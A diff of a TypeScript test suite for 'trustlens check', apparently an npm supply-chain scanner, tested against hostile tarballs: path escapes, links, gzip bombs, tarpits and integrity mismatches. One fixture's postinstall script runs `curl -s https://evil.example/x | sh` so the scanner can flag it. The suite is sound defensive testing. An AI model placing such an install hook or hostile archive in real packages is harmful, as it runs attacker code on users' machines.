@@ -40,9 +40,17 @@ const CASES: Record<string, Case> = {
   'h-link-loop': { tarball: (n) => H.linkLoopTarball(n, HOSTILE), expect: { clean: true } },
   'h-huge-entry': { tarball: (n) => H.hugeEntryTarball(n, HOSTILE, 150 * MB), expect: { finding: 'content-size-jump' } },
   'h-declared-pax': { tarball: (n) => H.declaredHugeTarball(n, HOSTILE, 'pax'), expect: { error: ['bad-response'], message: /tar archive is truncated/ } },
-  'h-declared-base256': { tarball: (n) => H.declaredHugeTarball(n, HOSTILE, 'base256'), expect: { error: ['bad-response'], message: /tar archive is truncated/ } },
+  'h-declared-base256': {
+    tarball: (n) => H.declaredHugeTarball(n, HOSTILE, 'base256'),
+    expect: { error: ['bad-response'], message: /tar archive is truncated/ },
+  },
   'h-gzip-bomb': { tarball: (n) => H.gzipBombTarball(n, HOSTILE, 6 * GB), expect: { finding: 'content-size-jump', truncated: true }, cli: true },
-  'h-integrity': { tarball: (n) => createTarball({ 'package.json': H.manifestOf(n, HOSTILE), 'index.js': 'module.exports = 2;\n' }), integrity: 'other', expect: { finding: 'integrity-mismatch' }, cli: true },
+  'h-integrity': {
+    tarball: (n) => createTarball({ 'package.json': H.manifestOf(n, HOSTILE), 'index.js': 'module.exports = 2;\n' }),
+    integrity: 'other',
+    expect: { finding: 'integrity-mismatch' },
+    cli: true,
+  },
   'h-truncated-gzip': {
     tarball: (n) => H.truncatedGzip(createTarball({ 'package.json': H.manifestOf(n, HOSTILE), 'index.js': crypto.randomBytes(40_000).toString('hex') }), 0.5),
     expect: { error: ['bad-response'], message: /gzip stream is truncated/ },
@@ -50,20 +58,41 @@ const CASES: Record<string, Case> = {
   'h-garbage': { tarball: () => H.garbage(64 * 1024), expect: { error: ['bad-response'], message: /not a tar archive/ }, cli: true },
   'h-many-entries': { tarball: (n) => H.manyEntriesTarball(n, HOSTILE, 100_000), expect: { finding: 'content-size-jump' } },
   'h-long-names': { tarball: (n) => H.longNamesTarball(n, HOSTILE), expect: { finding: 'content-path-escape' } },
-  'h-stalled': { tarball: (n) => createTarball({ 'package.json': H.manifestOf(n, HOSTILE), 'index.js': 'x'.repeat(20_000) }), tarpit: { mode: 'stall', afterBytes: 200 }, expect: { error: ['timeout'] } },
-  'h-drip': { tarball: (n) => createTarball({ 'package.json': H.manifestOf(n, HOSTILE) }), tarpit: { mode: 'drip', bytes: 16, everyMs: 100 }, expect: { error: ['timeout'] } },
-  'h-endless': { tarball: (n) => createTarball({ 'package.json': H.manifestOf(n, HOSTILE) }), tarpit: { mode: 'endless' }, expect: { error: ['too-large', 'timeout'] } },
+  'h-stalled': {
+    tarball: (n) => createTarball({ 'package.json': H.manifestOf(n, HOSTILE), 'index.js': 'x'.repeat(20_000) }),
+    tarpit: { mode: 'stall', afterBytes: 200 },
+    expect: { error: ['timeout'] },
+  },
+  'h-drip': {
+    tarball: (n) => createTarball({ 'package.json': H.manifestOf(n, HOSTILE) }),
+    tarpit: { mode: 'drip', bytes: 16, everyMs: 100 },
+    expect: { error: ['timeout'] },
+  },
+  'h-endless': {
+    tarball: (n) => createTarball({ 'package.json': H.manifestOf(n, HOSTILE) }),
+    tarpit: { mode: 'endless' },
+    expect: { error: ['too-large', 'timeout'] },
+  },
 };
 
 /** Ordinary packages beside them, with their ordinary findings. */
 const ORDINARY = { steady: '1.0.1', scripted: '1.0.1' };
 
-function writeProject(dir: string, registryUrl: string, locked: Record<string, string>, integrity: (name: string, version: string) => string | undefined): void {
+function writeProject(
+  dir: string,
+  registryUrl: string,
+  locked: Record<string, string>,
+  integrity: (name: string, version: string) => string | undefined,
+): void {
   fs.mkdirSync(dir, { recursive: true });
   fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'victim', version: '1.0.0', dependencies: locked }, null, 2));
   const packages: Record<string, object> = { '': { name: 'victim', version: '1.0.0', dependencies: locked } };
-  for (const [name, version] of Object.entries(locked)) packages[`node_modules/${name}`] = { version, resolved: `${registryUrl}${tarballPath(name, version).slice(1)}`, integrity: integrity(name, version) };
-  fs.writeFileSync(path.join(dir, 'package-lock.json'), JSON.stringify({ name: 'victim', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2));
+  for (const [name, version] of Object.entries(locked))
+    packages[`node_modules/${name}`] = { version, resolved: `${registryUrl}${tarballPath(name, version).slice(1)}`, integrity: integrity(name, version) };
+  fs.writeFileSync(
+    path.join(dir, 'package-lock.json'),
+    JSON.stringify({ name: 'victim', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2),
+  );
 }
 
 /** Every file under `dir` (relative paths), symlinks listed, never followed. */
@@ -76,7 +105,6 @@ function walk(dir: string, out: string[] = [], rel = ''): string[] {
   }
   return out;
 }
-
 
 /**
  * Hostile tarballs through the whole check: runCheck against the loopback fixture registry (and a tarpit host for
@@ -138,12 +166,23 @@ describe('hostile tarballs through trustlens check', function () {
     for (const name of Object.keys(CASES)) {
       const p = b.package(name);
       // A month apart: each release is compared with the one before it (see core/trust/baseline.ts: no burst here).
-      for (const [i, v] of ['1.0.0', '1.0.1', '1.0.2', HOSTILE].entries()) p.version(v, { publishedAt: new Date(Date.UTC(2024, i, 1)).toISOString(), publisher: { name: 'alice' }, files: { 'index.js': 'module.exports = 1;\n' } });
+      for (const [i, v] of ['1.0.0', '1.0.1', '1.0.2', HOSTILE].entries())
+        p.version(v, {
+          publishedAt: new Date(Date.UTC(2024, i, 1)).toISOString(),
+          publisher: { name: 'alice' },
+          files: { 'index.js': 'module.exports = 1;\n' },
+        });
     }
-    b.package('steady').version('1.0.0', { publisher: { name: 'alice' } }).version('1.0.1', { publisher: { name: 'alice' } });
+    b.package('steady')
+      .version('1.0.0', { publisher: { name: 'alice' } })
+      .version('1.0.1', { publisher: { name: 'alice' } });
     b.package('scripted')
       .version('1.0.0', { publisher: { name: 'alice' }, files: { 'index.js': 'module.exports = 1;\n' } })
-      .version('1.0.1', { publisher: { name: 'alice' }, scripts: { postinstall: 'node setup.js' }, files: { 'index.js': 'module.exports = 1;\n', 'setup.js': "require('child_process').execSync('curl -s https://evil.example/x | sh');\n" } });
+      .version('1.0.1', {
+        publisher: { name: 'alice' },
+        scripts: { postinstall: 'node setup.js' },
+        files: { 'index.js': 'module.exports = 1;\n', 'setup.js': "require('child_process').execSync('curl -s https://evil.example/x | sh');\n" },
+      });
     const corpus = await b.build();
     tarpit = await H.startTarpit(
       Object.fromEntries(
@@ -153,7 +192,10 @@ describe('hostile tarballs through trustlens check', function () {
       ),
     );
     for (const [name, c] of Object.entries(CASES)) {
-      H.serveTarball(corpus, name, HOSTILE, c.tarball(name, { marker, escapeDir: realTmp }), { integrity: c.integrity ?? 'match', url: c.tarpit ? `${tarpit.url}${tarballPath(name, HOSTILE).slice(1)}` : undefined });
+      H.serveTarball(corpus, name, HOSTILE, c.tarball(name, { marker, escapeDir: realTmp }), {
+        integrity: c.integrity ?? 'match',
+        url: c.tarpit ? `${tarpit.url}${tarballPath(name, HOSTILE).slice(1)}` : undefined,
+      });
     }
     registry = await startFixtureRegistry(corpus);
     integrityOf = (name, version) => corpus.packuments.get(name)?.versions[version]?.dist.integrity;
@@ -184,16 +226,27 @@ describe('hostile tarballs through trustlens check', function () {
 
   for (const [name, c] of Object.entries(CASES)) {
     const e = c.expect;
-    const what = 'finding' in e ? `${e.finding}${e.truncated ? ' (read cut at the budget)' : ''}` : 'error' in e ? `error ${e.error.join(' or ')}` : 'no finding, no error';
+    const what =
+      'finding' in e
+        ? `${e.finding}${e.truncated ? ' (read cut at the budget)' : ''}`
+        : 'error' in e
+          ? `error ${e.error.join(' or ')}`
+          : 'no finding, no error';
     it(`${name}: ${what}; the package itself is still judged`, () => {
-      for (const [run, report] of [['first run', first], ['second run', second]] as const) {
+      for (const [run, report] of [
+        ['first run', first],
+        ['second run', second],
+      ] as const) {
         const card = report.cards.find((k) => k.name === name && k.version === HOSTILE);
         assert.ok(card, `${run}: ${name} has a trust card (its history was read and judged)`);
         const got = findings(report, name);
         const errs = errors(report, name);
         if ('finding' in e) {
           const f = got.find((x) => x.code === e.finding);
-          assert.ok(f, `${run}: ${name} should have ${e.finding}; findings: ${got.map((x) => x.code).join(', ') || 'none'}; errors: ${errs.map((x) => `${x.code} ${x.message}`).join('; ') || 'none'}`);
+          assert.ok(
+            f,
+            `${run}: ${name} should have ${e.finding}; findings: ${got.map((x) => x.code).join(', ') || 'none'}; errors: ${errs.map((x) => `${x.code} ${x.message}`).join('; ') || 'none'}`,
+          );
           assert.equal(f.version, HOSTILE);
           assert.deepEqual(errs, [], `${run}: ${name} is analysed, not an error`);
           assert.equal(card.changes?.previous, '1.0.2', `${run}: compared with the release before it`);
@@ -203,9 +256,17 @@ describe('hostile tarballs through trustlens check', function () {
           assert.ok(e.error.includes(errs[0].code), `${run}: ${name}: ${errs[0].code} ${errs[0].message}`);
           if (e.message) assert.match(errs[0].message, e.message);
           assert.match(errs[0].message, /^content analysis: /);
-          assert.deepEqual(got.filter((x) => x.code.startsWith('content-')), [], 'no content finding from a tarball that could not be read');
+          assert.deepEqual(
+            got.filter((x) => x.code.startsWith('content-')),
+            [],
+            'no content finding from a tarball that could not be read',
+          );
         } else {
-          assert.deepEqual(got.map((x) => x.code), [], `${run}: ${name} has no finding`);
+          assert.deepEqual(
+            got.map((x) => x.code),
+            [],
+            `${run}: ${name} has no finding`,
+          );
           assert.deepEqual(errs, []);
           assert.equal(card.changes?.previous, '1.0.2', 'analysed against the release before it');
           assert.equal(card.changes?.truncated, false);
@@ -215,10 +276,13 @@ describe('hostile tarballs through trustlens check', function () {
   }
 
   it('the ordinary packages beside them are judged exactly as in a project without them', () => {
-    const view = (r: CheckReport, n: string) => findings(r, n).map((f) => ({ code: f.code, severity: f.severity, message: f.message, safeVersion: f.safeVersion }));
+    const view = (r: CheckReport, n: string) =>
+      findings(r, n).map((f) => ({ code: f.code, severity: f.severity, message: f.message, safeVersion: f.safeVersion }));
     assert.deepEqual(view(control, 'steady'), []);
     assert.deepEqual(
-      view(control, 'scripted').map((f) => f.code).sort(),
+      view(control, 'scripted')
+        .map((f) => f.code)
+        .sort(),
       ['content-network', 'content-process', 'install-script-added'],
       'the control run shows the ordinary findings',
     );
@@ -237,7 +301,10 @@ describe('hostile tarballs through trustlens check', function () {
     assert.match(f.evidence.find((x) => x.label === 'registry metadata (dist.integrity)')!.value, /^sha512-/);
     assert.match(f.evidence.find((x) => x.label === 'served tarball')!.value, /^sha512-/);
     assert.notEqual(f.evidence[0].value, f.evidence[1].value);
-    assert.ok(secondRunTarballs.some((u) => u.includes('h-integrity-1.1.0.tgz')), 'the second run downloads it again');
+    assert.ok(
+      secondRunTarballs.some((u) => u.includes('h-integrity-1.1.0.tgz')),
+      'the second run downloads it again',
+    );
   });
 
   it('path escapes and links: each entry named, control characters neutralised, nothing followed or read', () => {
@@ -261,7 +328,8 @@ describe('hostile tarballs through trustlens check', function () {
     const passwd = fs.existsSync('/etc/passwd') ? fs.readFileSync('/etc/passwd', 'utf8').split('\n')[0] : undefined;
     if (passwd) {
       assert.ok(!JSON.stringify({ first, second }).includes(passwd));
-      for (const f of walk(cacheDir)) if (fs.statSync(path.join(cacheDir, f)).isFile()) assert.ok(!fs.readFileSync(path.join(cacheDir, f), 'utf8').includes(passwd), f);
+      for (const f of walk(cacheDir))
+        if (fs.statSync(path.join(cacheDir, f)).isFile()) assert.ok(!fs.readFileSync(path.join(cacheDir, f), 'utf8').includes(passwd), f);
     }
   });
 
@@ -270,7 +338,8 @@ describe('hostile tarballs through trustlens check', function () {
     assert.ok(long.length > 0);
     for (const f of first.findings) {
       assert.ok(f.message.length < 2000, `${f.package} ${f.code}: message of ${f.message.length} characters`);
-      for (const ev of f.evidence) assert.ok(ev.label.length + ev.value.length < 2000, `${f.package} ${f.code}: evidence of ${ev.label.length + ev.value.length} characters`);
+      for (const ev of f.evidence)
+        assert.ok(ev.label.length + ev.value.length < 2000, `${f.package} ${f.code}: evidence of ${ev.label.length + ev.value.length} characters`);
     }
     const card = first.cards.find((k) => k.name === 'h-long-names')!;
     assert.ok(JSON.stringify(card).length < 20_000, `the card is ${JSON.stringify(card).length} characters`);
@@ -283,12 +352,24 @@ describe('hostile tarballs through trustlens check', function () {
     assert.deepEqual(walk(project).sort(), projectBefore, 'the project folder (also HOME) is unchanged');
     // the real temp folder: no new entry carries the marker, and no escape target exists
     const added = fs.readdirSync(realTmp).filter((f) => !tmpBefore.has(f));
-    assert.deepEqual(added.filter((f) => f.includes(nonce)), []);
+    assert.deepEqual(
+      added.filter((f) => f.includes(nonce)),
+      [],
+    );
     for (const suffix of ['dotdot', 'package-dotdot', 'absolute', 'cwd', 'backslash', 'drive', 'hardlink', 'through-link']) {
-      for (const dir of [realTmp, process.cwd(), work, project, path.dirname(project)]) assert.equal(fs.existsSync(path.join(dir, `${marker}-${suffix}`)), false, `${dir}/${marker}-${suffix}`);
+      for (const dir of [realTmp, process.cwd(), work, project, path.dirname(project)])
+        assert.equal(fs.existsSync(path.join(dir, `${marker}-${suffix}`)), false, `${dir}/${marker}-${suffix}`);
     }
-    for (const dir of [work, process.cwd()]) assert.deepEqual(fs.readdirSync(dir).filter((f) => f.includes(nonce)), [], dir);
-    assert.deepEqual(walk(work).filter((f) => f.includes(nonce)), []);
+    for (const dir of [work, process.cwd()])
+      assert.deepEqual(
+        fs.readdirSync(dir).filter((f) => f.includes(nonce)),
+        [],
+        dir,
+      );
+    assert.deepEqual(
+      walk(work).filter((f) => f.includes(nonce)),
+      [],
+    );
     // the cache holds JSON results only: no tarball, no file from one (cacheLines throws on anything else)
     const files = walk(cacheDir).filter((f) => fs.statSync(path.join(cacheDir, f)).isFile());
     assert.ok(files.length > 0);
@@ -306,7 +387,14 @@ describe('hostile tarballs through trustlens check', function () {
     assert.ok(!fetched('steady') && !secondRunTarballs.some((u) => u.includes('/steady-')));
     // h-endless may end at the body cap or at the timeout, whichever comes first on the machine: both are expected
     const accepted = (n: string, code: string) => (CASES[n] && 'error' in CASES[n].expect && CASES[n].expect.error.includes(code) ? 'expected error' : code);
-    const summary = (r: CheckReport) => Object.keys(CASES).map((n) => [n, findings(r, n).map((f) => f.code).sort(), errors(r, n).map((e) => accepted(n, e.code))]);
+    const summary = (r: CheckReport) =>
+      Object.keys(CASES).map((n) => [
+        n,
+        findings(r, n)
+          .map((f) => f.code)
+          .sort(),
+        errors(r, n).map((e) => accepted(n, e.code)),
+      ]);
     assert.deepEqual(summary(second), summary(first));
   });
 
@@ -316,7 +404,10 @@ describe('hostile tarballs through trustlens check', function () {
     try {
       // An hour's request timeout: a connection left open would stay open, and the hang guard would say so.
       const client = new RegistryHttp({ config: { values: { registry: pit.url }, sources: [] }, retries: 0, timeoutMs: 3_600_000, maxBodyBytes: 8 * MB });
-      await assert.rejects(downloadTarball(client, `${pit.url}${where.slice(1)}`, { name: 'endless', version: '1.0.0' }), (e: unknown) => e instanceof EngineError && e.code === 'too-large');
+      await assert.rejects(
+        downloadTarball(client, `${pit.url}${where.slice(1)}`, { name: 'endless', version: '1.0.0' }),
+        (e: unknown) => e instanceof EngineError && e.code === 'too-large',
+      );
       await until('the tarpit to see its connection closed', () => pit.open() === 0);
       // Closed, the tarpit stops writing (it checks res.destroyed). What it sent of the endless body is the 8 MB cap and
       // what the sockets buffered (about 12 MB in all here): bounded, with room for larger socket buffers elsewhere.
@@ -328,7 +419,9 @@ describe('hostile tarballs through trustlens check', function () {
   });
 
   it('`trustlens check` (CLI): findings and errors in JSON, exit 1, text without control characters, nothing written', async () => {
-    const names = Object.entries(CASES).filter(([, c]) => c.cli).map(([n]) => n);
+    const names = Object.entries(CASES)
+      .filter(([, c]) => c.cli)
+      .map(([n]) => n);
     const cliProject = path.join(work, 'cli-project');
     writeProject(cliProject, registry.url, { ...Object.fromEntries(names.map((n) => [n, HOSTILE])), ...ORDINARY }, integrityOf);
     const cwd = path.join(work, 'cli-cwd');
@@ -340,7 +433,10 @@ describe('hostile tarballs through trustlens check', function () {
     const base = ['check', cliProject, '--registry', registry.url, '--now', NOW, '--advisories', 'off', '--cache-dir', cache];
     const json = await trustlens([...base, '--format', 'json'], env, cwd);
     assert.equal(json.code, 1, json.stderr);
-    const out = JSON.parse(json.stdout) as { findings: { code: string; package: string; severity: string }[]; summary: { errors: { package: string; code: string }[] } };
+    const out = JSON.parse(json.stdout) as {
+      findings: { code: string; package: string; severity: string }[];
+      summary: { errors: { package: string; code: string }[] };
+    };
     const has = (n: string, code: string) => out.findings.some((f) => f.package === n && f.code === code);
     assert.ok(has('h-traversal', 'content-path-escape'));
     assert.ok(has('h-links', 'content-path-escape'));
@@ -348,7 +444,10 @@ describe('hostile tarballs through trustlens check', function () {
     assert.ok(has('h-integrity', 'integrity-mismatch'));
     assert.ok(has('scripted', 'install-script-added') && !has('scripted', 'content-install-hook'), 'one finding per cause');
     assert.ok(!out.findings.some((f) => f.package === 'steady'));
-    assert.deepEqual(out.summary.errors.map((e) => `${e.package} ${e.code}`), [`h-garbage@${HOSTILE} bad-response`]);
+    assert.deepEqual(
+      out.summary.errors.map((e) => `${e.package} ${e.code}`),
+      [`h-garbage@${HOSTILE} bad-response`],
+    );
     assert.match(json.stderr, /h-garbage@1\.1\.0: content analysis: h-garbage@1\.1\.0: not a tar archive/);
     // text: the cached results of the JSON run, printed; a terminal gets no control characters
     const text = await trustlens(base, env, cwd);
